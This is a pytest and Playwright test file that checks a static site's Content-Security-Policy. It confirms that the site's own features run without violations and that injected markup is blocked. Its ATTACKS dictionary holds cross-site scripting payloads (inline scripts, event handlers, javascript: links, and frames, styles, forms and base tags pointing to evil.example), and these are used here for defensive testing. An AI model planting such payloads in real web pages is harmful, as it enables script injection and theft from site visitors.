"""The content security policy that every page has: the site works under it, and what a seed might plant does not."""

from __future__ import annotations

import re
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path

import pytest
from lxml.html import HtmlElement
from playwright import sync_api as playwright
from served import WIDE, listening, renew, served
from sites import Built, mkdocs, need, project, write_files, zensical

FRAME = {
    "default-src": "'none'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' data:",
    "connect-src": "'self'",
    "worker-src": "'self'",
    "manifest-src": "'self'",
    "base-uri": "'none'",
    "form-action": "'self'",
}
MOVED = {
    **{name: FRAME[name] for name in ("default-src", "style-src", "img-src", "base-uri")},
    "script-src": "'self'",
    "form-action": "'none'",
}
ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script from elsewhere": "<script src=https://evil.example/x.js></script>",
    "a module": "<script type=module>import 'https://evil.example/x.js'</script>",
    "a handler": "<img src=x-nothing onerror=alert(1)>",
    "an address that is a script": "<a id=attack href='javascript:alert(1)'>x</a>",
    "a picture": "<img src=https://evil.example/x.png>",
    "a style": "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "a style sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "an attribute of style": "<p style='position: fixed; background: url(https://evil.example/x.png)'>x</p>",
    "a frame": "<iframe src=https://evil.example/></iframe>",
    "a frame with its own text": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data=https://evil.example/x></object>",
    "an embedded thing": "<embed src=https://evil.example/x>",
    "a video": "<video src=https://evil.example/x.mp4 autoplay></video>",
    "a form": "<form action=https://evil.example/x><button id=attack>x</button></form>",
    "a base": "<base href=https://evil.example/><script src=x.js></script>",
    "a picture in SVG": "<svg onload=alert(1)><image href=https://evil.example/x.png /></svg>",
}


def policy_of(page: HtmlElement) -> dict[str, str]:
    """The directives of a page's policy. Nothing before it but what says how the page is read."""
    first, second = list(page.find("head"))[:2]
    assert first.get("charset") == "utf-8"
    assert second.get("http-equiv") == "Content-Security-Policy"
    return dict(part.strip().split(" ", 1) for part in second.get("content").split(";"))


def without_policy(page: HtmlElement) -> list[str]:
    """What of a page its policy does not let in, for it stands in the page itself."""
    data = "@type='application/json' or @type='application/ld+json'"  # is never carried out, so no policy is about it
    inline = page.xpath(f"//script[not(@src) and not({data})] | //style | //*[@style] | //base")
    handlers = page.xpath("//*[@*[starts-with(name(), 'on')]]")
    leading = [link for link in page.xpath("//@href | //@src | //@action") if link.lower().startswith("javascript:")]
    return [*(element.tag for element in (*inline, *handlers)), *leading]


MOVING = {
    "a.txt": "Zed dirilis kemarin.\nModelnya terbuka.\n",
    "a.yml": "language: id\ntitle: Baru\nredirect_from: [lama]\n",
    "models/zed.yml": "name: Zed\n",
}


@pytest.fixture(scope="module")
def moved(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """A site with a page at an old address."""
    folder = tmp_path_factory.mktemp("moved")
    write_files(folder / "planted", MOVING)
    return mkdocs(project(folder, folder / "planted"))


@pytest.mark.parametrize("name", ["real_site", "nasty_site", "moved"])
def test_every_page_has_the_policy_and_nothing_that_breaks_it(name: str, request: pytest.FixtureRequest) -> None:
    for address, page in request.getfixturevalue(name).pages.items():
        old = bool(page.xpath("//meta[@http-equiv='refresh']"))
        assert old == (address == "id/articles/lama/")
        assert policy_of(page) == (MOVED if old else FRAME), address
        assert without_policy(page) == [], address


def test_pages_of_the_other_renderer_have_it_too(tmp_path_factory: pytest.TempPathFactory) -> None:
    need(find_spec("zensical"), "Zensical is not installed (requirements/ci.txt has it)")
    folder = tmp_path_factory.mktemp("zensical")
    write_files(folder / "planted", MOVING)
    for address, page in zensical(project(folder, folder / "planted")).pages.items():
        old = bool(page.xpath("//meta[@http-equiv='refresh']"))
        assert policy_of(page) == (MOVED if old else FRAME), address
        assert without_policy(page) == [], address


# In a browser

WATCH = "addEventListener('securitypolicyviolation', event => (window.refused ??= []).push(event.violatedDirective))"


@pytest.fixture(scope="module")
def watching(browser: playwright.Browser) -> Iterator[playwright.Page]:
    """A window that writes down what a page's policy refuses, before anything of the page."""
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    page = context.new_page()
    page.add_init_script(WATCH)
    yield page
    context.close()


@pytest.fixture
def opened(watching: playwright.Page) -> playwright.Page:
    """It as new."""
    renew(watching)
    watching.set_viewport_size(WIDE)
    watching.set_default_timeout(10_000)
    return watching


def refused(page: playwright.Page) -> list[str]:
    """What the policies of a window's page, and of the frames in it, have refused."""
    return [name for frame in page.frames for name in frame.evaluate("window.refused ?? []")]


def is_own(url: str, address: str) -> bool:
    return url.startswith((address, "data:", "blob:", "about:"))


def test_the_site_is_used_without_anything_refused(opened: playwright.Page, site_below: Built) -> None:
    """Each kind of page, and what can be done on it: search, filters, the scheme, addresses, the other languages."""
    found = 0
    one_of_each = {re.sub(r"^(id|pt-BR)/|(?<=/)[^/]+/$", "", address): address for address in site_below.pages}
    with served(site_below.site, "/some/path/") as address, listening(opened, "error", "warning") as heard:
        for page in one_of_each.values():
            opened.goto(address + page)
            for button in opened.locator(".masthead__scheme").all():
                button.click()
            for choice in opened.locator("main select:visible").all():
                choice.select_option(index=choice.locator("option").count() - 1)
            for box in opened.locator("main :is([type=radio], [type=checkbox]):visible").all()[:3]:
                box.check()
            for fold in opened.locator("main summary:visible").all()[:2]:
                fold.click()
            for link in opened.locator("main :is(.headerlink, .permalink):visible").all()[:1]:
                link.click()
            if page != "404.html":
                opened.keyboard.press("/")
                opened.locator("#search-q").fill("open source")
                opened.locator("#search ol[aria-busy=false]").wait_for(state="attached")
                found += opened.locator("#search ol li").count()
            assert refused(opened) == [], page
            opened.goto(address + page)
            opened.locator(".masthead__languages a").last.click()
            opened.wait_for_load_state()
            assert refused(opened) == [], page
    assert heard.faults == []
    assert [url for url in heard.requests if not is_own(url, address)] == []
    assert one_of_each.keys() >= {"", "articles/", "models/", "people/", "translations/", "search/", "404.html"}
    assert found > 50


def test_an_old_address_leads_on(opened: playwright.Page, moved: Built) -> None:
    with served(moved.site) as address, listening(opened, "error", "warning") as heard:
        opened.goto(f"{address}id/articles/lama/#p2")
        opened.wait_for_url(f"{address}id/articles/baru/#p2")
        assert refused(opened) == []
    assert heard.faults == []


def test_of_seeds_that_try_everything_nothing_runs_and_nothing_is_fetched(
    opened: playwright.Page, nasty_site: Built
) -> None:
    """What they plant is text, so there is not even anything to refuse."""
    with served(nasty_site.site) as address, listening(opened, "error", "warning") as heard:
        for page in nasty_site.pages:
            opened.goto(address + page)
            assert opened.url == address + page
            assert refused(opened) == [], page
    assert heard.faults == []
    assert [url for url in heard.requests if not is_own(url, address)] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_if_text_were_not_escaped_the_policy_would_hold(
    opened: playwright.Page, real_site: Built, tmp_path: Path, attack: str
) -> None:
    """But for leading away at once (`<meta http-equiv="refresh">`), which no policy in a page forbids."""
    page = real_site.files["about/index.html"].decode()
    (tmp_path / "404.html").touch()
    (tmp_path / "index.html").write_text(page.replace('href="../', 'href="').replace("<h1", f"{ATTACKS[attack]}<h1", 1))
    sent: list[str] = []  # of what a page asks for, what leaves the browser

    def send(route: playwright.Route) -> None:
        sent.append(route.request.url)
        route.continue_() if is_own(route.request.url, address) else route.abort()

    with served(tmp_path) as address, listening(opened) as heard:
        opened.route("**/*", send)
        opened.goto(address)
        for target in opened.locator("#attack").all():
            target.click(no_wait_after=True)
        for _ in range(50):
            if refused(opened):
                break
            opened.wait_for_timeout(100)
        assert refused(opened)
        assert opened.url == address
    assert "1" not in heard.faults, "a dialog was opened"
    assert [url for url in sent if not is_own(url, address)] == []
